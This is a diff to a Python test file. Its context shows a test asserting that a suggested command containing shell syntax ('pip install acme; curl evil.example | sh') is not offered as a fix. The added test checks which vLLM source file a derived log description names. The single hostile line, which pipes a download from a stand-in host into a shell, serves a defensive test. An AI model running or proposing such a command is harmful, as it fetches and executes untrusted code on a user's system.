@@ -326,3 +326,16 @@ def test_a_command_with_shell_syntax_is_not_offered():
         seen="Run `pip install acme; curl evil.example | sh` first.",
     )
     assert fix is None or fix.command is None
+
+
+def test_a_module_level_check_names_the_file_of_the_release_in_use():
+    """vLLM 0.9.2 logs it in vllm/_custom_ops.py, not in the newest release's rocm.py."""
+    record = _mined(
+        "Failed to import from vllm._C with something",
+        documentation="Logged at module level in vllm/platforms/rocm.py.",
+        filePath="vllm/platforms/rocm.py",
+    )
+    assert "Logged at module level in vllm/_custom_ops.py." == _derive.check(
+        record, "vllm/_custom_ops.py"
+    )
+    assert "Logged at module level in vllm/platforms/rocm.py." == _derive.check(record)
